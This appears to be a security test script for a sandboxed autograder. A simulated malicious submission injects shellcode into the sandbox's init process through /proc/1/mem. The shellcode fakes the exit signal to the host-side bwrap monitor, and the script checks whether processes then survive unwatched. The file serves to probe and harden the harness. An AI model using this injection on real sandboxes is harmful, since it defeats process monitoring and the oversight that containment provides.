"""a12: bwrap's init holds an eventfd that the host-side bwrap (its monitor) reads for the sandbox's exit status.
Code injected into init (through /proc/1/mem) writes 1 (exit status 0) into it while the kernel keeps running: does
the host-side bwrap exit and leave a sandbox running with nobody watching, or does the sandbox die (die-with-parent)
and the grader go on? Also lists init's descriptors."""
import sys; sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
A = "ps1_memory"
code = sol(A, "training_memory") + r'''
import os, time, struct
_fds = {int(f): os.readlink(f"/proc/1/fd/{f}") for f in os.listdir("/proc/1/fd")}
print("A12 init fds:", _fds, flush=True)
_efd = [f for f, t in _fds.items() if "eventfd" in t]
if _efd:
    sc = bytes.fromhex("6a01" "4889e6") + b"\xbf" + struct.pack("<I", _efd[0]) + bytes.fromhex("ba08000000" "b801000000" "0f05" "ebfe")
    pc = int(open("/proc/1/syscall").read().split()[-1], 16)
    fd = os.open("/proc/1/mem", os.O_RDWR); os.pwrite(fd, sc, pc); os.close(fd)
    p = os.fork()
    if p == 0:
        if os.fork() == 0:
            time.sleep(0.2)
        os._exit(0)
    os.waitpid(p, 0)
    time.sleep(3)
    print("A12 kernel still alive 3 s after; init state", open("/proc/1/stat").read().split()[2], flush=True)
'''
d = make_course("a12", A, {"mallory": {"training_memory": code}})
grade(d, A)
scores(d, A)
o = outputs(d, "mallory", A, "training_memory"); print(o[o.find("A12"):][:800] if "A12" in o else o[:800])
time.sleep(2)
left = [p for p in os.listdir("/proc") if p.isdigit() and os.path.exists(f"/proc/{p}") and os.stat(f"/proc/{p}").st_uid == 65534]
print("uid-65534 processes left after the run:", left)
